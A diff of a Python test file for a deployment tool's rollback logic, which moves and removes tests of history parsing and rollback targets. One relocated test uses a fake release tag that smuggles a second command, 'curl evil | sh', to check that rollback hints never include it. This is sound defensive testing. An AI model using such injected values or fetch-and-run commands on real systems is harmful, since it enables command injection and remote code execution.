@@ -1,4 +1,4 @@
-"""The history: what is read out of a file that nobody trusts, and where a rollback goes."""
+"""Where a rollback goes, and why it has nowhere to go."""
 
 from __future__ import annotations
 
@@ -11,218 +11,10 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from deployctl.compose.service import release_of
 from deployctl.release import record, way_back
-from deployctl.release.origin import WorkflowRun
 from deployctl.release.record import BROKEN, INTERRUPTED, RESTORED, STARTED, History
-from deployctl.release.reference import Reference
-from deployctl.release.release import Release, same_release
 from deployctl.release.way_back import NoTarget
-from tests.unit.build import (
-    WEB,
-    container,
-    digest,
-    entry,
-    image_id,
-    recorded,
-    release,
-    successes,
-    tag,
-    text,
-)
-
-# ---------------------------------------------------------------- text → entries
-
-
-def test_while_a_deploy_goes_on_the_release_that_it_started_from_is_gone_back_to() -> None:
-    found = recorded(entry(1, 1), entry(2, 2), entry(3, 3, STARTED))
-
-    assert way_back.target_during_deploy(found, WEB).release == release(2)
-
-
-def test_a_first_deploy_that_goes_on_cannot_be_gone_back_from() -> None:
-    with pytest.raises(NoTarget, match="no successful deploy"):
-        way_back.target_during_deploy(recorded(entry(1, 1, STARTED)), WEB)
-
-
-def test_lines_are_read_in_their_order() -> None:
-    found = recorded(entry(1, 1, STARTED, run="a"), entry(2, 1, run="a"))
-
-    assert [(e.seq, e.event, e.run) for e in found.entries] == [
-        (1, STARTED, "a"),
-        (2, "succeeded", "a"),
-    ]
-    assert found.entries[1].release == release(1)
-    assert found.problems == ()
-    assert found.next_seq == 3
-
-
-def test_an_empty_file_has_no_entries_and_no_problems() -> None:
-    assert record.parse(b"") == History()
-    assert record.parse(b"\n\n") == History(size=2)
-
-
-@pytest.mark.parametrize(
-    ("line", "said"),
-    [
-        (b"garbage", "not JSON"),
-        (b"\xff\xfe{}", "not JSON"),
-        (b"[1]", "not a JSON object"),
-        (b"[" * 100_000, "not JSON"),
-        (json.dumps(entry(2, 2, v=2)).encode(), "unknown version"),
-        (json.dumps(entry(2, 2, v=True)).encode(), "unknown version"),
-        (json.dumps({**entry(2, 2), "seq": "2"}).encode(), "no usable seq"),
-        (json.dumps({**entry(2, 2), "seq": None}).encode(), "no usable seq"),
-        (json.dumps(entry(-2, 2)).encode(), "no usable seq"),
-        (json.dumps(entry(2, 2, "exploded")).encode(), "unknown event"),
-        (json.dumps({**entry(2, 2), "tag": 7}).encode(), "no usable tag"),
-        (json.dumps({**entry(2, 2), "previous": "sha-1"}).encode(), "no usable previous"),
-        (json.dumps({**entry(2, 2), "previous": {}}).encode(), "no usable tag"),
-    ],
-)
-def test_a_line_that_cannot_be_read_is_skipped_and_said(line: bytes, said: str) -> None:
-    found = record.parse(text([entry(1, 1)]) + line + b"\n" + text([entry(3, 3)]))
-
-    assert [e.seq for e in found.entries] == [1, 3]
-    assert said in found.problems[0]
-    assert "line 2" in found.problems[0]
-    assert found.gaps == {1}
-
-
-def test_lines_with_the_same_fault_are_told_once_with_their_count() -> None:
-    lines = [entry(1, 1), *(entry(seq, 2) for seq in range(3, 5000, 2))]
-    broken = b"garbage\n".join(json.dumps(line).encode() + b"\n" for line in lines)
-
-    assert record.parse(broken + b"[1]\n").problems == (
-        "2499 lines (2, 4, 6, …): not JSON",
-        "line 5000: not a JSON object",
-        "the numbering is broken in 2499 places, first: 3 follows 1",
-    )
-
-
-def test_lines_with_carriage_returns_are_read() -> None:
-    found = record.parse(text([entry(1, 1), entry(2, 2)]).replace(b"\n", b"\r\n"))
-
-    assert len(found.entries) == 2
-    assert found.problems == ()
-
-
-def test_a_torn_last_line_is_reported_and_no_gap() -> None:
-    whole = text([entry(1, 1), entry(2, 2)])
-    found = record.parse(whole + text([entry(3, 3)])[:40])
-
-    assert len(found.entries) == 2
-    assert "torn" in found.problems[-1]
-    assert found.gaps == frozenset()
-    assert way_back.rollback_target(found, WEB, release(2), well=True).release == release(1)
-
-
-def test_a_last_line_that_lacks_only_its_end_counts() -> None:
-    assert len(record.parse(text([entry(1, 1), entry(2, 2)])[:-1]).entries) == 2
-
-
-@pytest.mark.parametrize("numbers", [(1, 3), (2, 1), (1, 1), (5, 9)])
-def test_a_break_in_the_numbering_is_reported(numbers: tuple[int, int]) -> None:
-    found = recorded(entry(numbers[0], 1), entry(numbers[1], 2))
-
-    assert found.gaps == {1}
-    assert f"{numbers[1]} follows {numbers[0]}" in found.problems[0]
-
-
-def test_only_the_end_of_a_long_file_is_read_and_its_cut_first_line_is_no_problem() -> None:
-    data = text([entry(1, 1), entry(2, 2), entry(3, 3)])
-    found = record.parse(data[50:], size=len(data))
-
-    assert found.truncated
-    assert [e.seq for e in found.entries] == [2, 3]
-    assert found.problems == ()
-    assert found.size == len(data)
-
-
-@pytest.mark.parametrize("seconds", [None, "1", -1, 1e300, float("inf"), float("nan"), True])
-def test_a_duration_that_cannot_be_shown_counts_as_none(seconds: Any) -> None:
-    assert recorded(entry(1, 1, seconds=seconds)).entries[0].seconds in {0.0, 1.0}
-
-
-def test_a_started_line_without_an_outcome_is_unfinished_whatever_its_service() -> None:
-    found = recorded(
-        entry(1, 1, STARTED, run="a"),
-        entry(2, 1, run="a"),
-        entry(3, 2, STARTED, run="b", service="other"),
-    )
-
-    assert [e.run for e in found.unfinished()] == ["b"]
-
-
-@given(st.binary(max_size=400), st.none() | st.integers(0, 10_000))
-def test_arbitrary_bytes_are_a_history_with_problems_never_an_exception(
-    data: bytes, size: int | None
-) -> None:
-    found = record.parse(data, size=size)
-    assert found.entries == ()
-    assert not data.strip() or found.problems or found.truncated
-
-
-LINE = st.fixed_dictionaries(
-    {},
-    optional={
-        name: st.none() | st.booleans() | st.integers() | st.text(max_size=5) | st.floats()
-        for name in entry(1, 1)
-    },
-)
-
-
-@given(LINE)
-def test_any_json_object_is_an_entry_or_a_problem(line: dict[str, Any]) -> None:
-    found = record.parse(json.dumps({**entry(1, 1), **line}).encode() + b"\n")
-    assert len(found.entries) + len(found.problems) == 1
-
-
-def test_what_the_client_records_is_what_it_reads_again() -> None:
-    fields = record.record_fields(
-        run="r",
-        action="deploy",
-        service=WEB,
-        release=release(2),
-        previous=release(1),
-        image_store="overlay2",
-        files="ff",
-        by='k"im\n',
-        source="terminal",
-        run_url="https://example",
-    )
-    line = f'{{"v":1,"seq":1,"at":"now","event":"succeeded",{fields},"reason":"","seconds":1.5}}\n'
-    read = record.parse(line.encode()).entries[0]
-
-    assert "\n" not in fields
-    assert (read.release, read.previous, read.by) == (release(2), release(1), 'k"im\n')
-    assert record.interrupted_fields(read) == fields
-
-
-# ---------------------------------------------------------------- what runs
-
-
-def test_a_release_is_the_same_by_image_id_or_by_digest_but_never_by_tag_alone() -> None:
-    other_store = Release(tag(1), image_id(7))
-
-    assert same_release(release(1), release(1))
-    assert same_release(release(1), other_store, [digest(1)])
-    assert not same_release(release(1), other_store)
-    assert not same_release(release(1), other_store, [digest(2)])
-    assert not same_release(Release(tag(1), image_id(1)), other_store, [""])
-    assert not same_release(release(1), Release(tag(2), image_id(1)))
-
-
-def test_containers_are_one_release_or_none() -> None:
-    moved = container(1, image_id=image_id(2))
-
-    assert release_of([container(1), container(1)]) == Release(tag(1), image_id(1))
-    assert release_of([]) is None
-    assert release_of([container(1), moved]) is None
-    assert release_of([container(1, reference=Reference("r")), container(1)]) is None
-
-
-# ---------------------------------------------------------------- where a rollback goes
+from tests.unit.build import WEB, entry, recorded, release, successes, tag, text
 
 
 def target(found: History, running: int | None, *, well: bool = True) -> int:
@@ -286,6 +78,17 @@ def test_what_was_started_by_hand_goes_back_to_the_last_success() -> None:
 
 def test_nothing_or_a_mixture_goes_back_to_the_last_success() -> None:
     assert target(successes(1, 2), None) == 2
+
+
+def test_while_a_deploy_goes_on_the_release_that_it_started_from_is_gone_back_to() -> None:
+    found = recorded(entry(1, 1), entry(2, 2), entry(3, 3, STARTED))
+
+    assert way_back.target_during_deploy(found, WEB).release == release(2)
+
+
+def test_a_first_deploy_that_goes_on_cannot_be_gone_back_from() -> None:
+    with pytest.raises(NoTarget, match="no successful deploy"):
+        way_back.target_during_deploy(recorded(entry(1, 1, STARTED)), WEB)
 
 
 def test_an_unhealthy_release_that_succeeded_once_goes_to_the_one_before() -> None:
@@ -375,10 +178,28 @@ def test_the_newest_good_tags_are_kept() -> None:
     assert way_back.known_good_tags(found, WEB, 9) == (tag(2), tag(3), tag(1))
 
 
+def test_a_recorded_tag_with_a_line_break_adds_no_line_to_the_commands() -> None:
+    evil = "sha-1111111\ncurl evil | sh"
+    known = recorded(entry(1, 1, tag=evil), entry(3, 2))
+
+    with pytest.raises(way_back.NoTarget) as none:
+        way_back.named_target(known, WEB, "sha-7777777")
+    assert "\n" not in none.value.hint
+
+    with pytest.raises(way_back.NoTarget) as none:
+        way_back.rollback_target(known, WEB, release(2), well=True)
+    assert not any(line.startswith("curl") for line in none.value.hint.splitlines())
+
+
 # ---------------------------------------------------------------- properties
 
+
 SUCCESS = st.tuples(st.sampled_from(["deploy", "rollback"]), st.integers(1, 4))
+
+
 FAILURE = st.tuples(st.sampled_from([RESTORED, BROKEN, INTERRUPTED]), st.integers(1, 4))
+
+
 RUNS = st.lists(SUCCESS | SUCCESS | FAILURE, max_size=8)
 
 
@@ -476,39 +297,3 @@ def test_the_stack_has_no_release_twice_in_a_row(runs: list[tuple[str, int]]) ->
     found = recorded(*lines_of(runs))
     tags = [e.release.tag for e in way_back.stack(found.of(WEB))]
     assert all(one != other for one, other in pairwise(tags))
-
-
-def test_the_run_of_a_workflow_is_written_and_read_again() -> None:
-    run = WorkflowRun("example/infra/.github/workflows/deploy.yml", 42, 2, 40 * "a")
-    fields = record.record_fields(
-        run="r",
-        action="deploy",
-        service=WEB,
-        release=release(1),
-        previous=None,
-        image_store="",
-        files="",
-        by="kim",
-        source="github-actions",
-        run_url="",
-        workflow_run=run,
-    )
-    line = f'{{"v":1,"seq":1,"at":"","event":"started",{fields},"reason":"","seconds":0}}\n'
-
-    (read,) = record.parse(line.encode()).entries
-
-    assert read.workflow_run == run
-    assert record.interrupted_fields(read) == fields
-
-
-def test_a_recorded_tag_with_a_line_break_adds_no_line_to_the_commands() -> None:
-    evil = "sha-1111111\ncurl evil | sh"
-    known = recorded(entry(1, 1, tag=evil), entry(3, 2))
-
-    with pytest.raises(way_back.NoTarget) as none:
-        way_back.named_target(known, WEB, "sha-7777777")
-    assert "\n" not in none.value.hint
-
-    with pytest.raises(way_back.NoTarget) as none:
-        way_back.rollback_target(known, WEB, release(2), well=True)
-    assert not any(line.startswith("curl") for line in none.value.hint.splitlines())
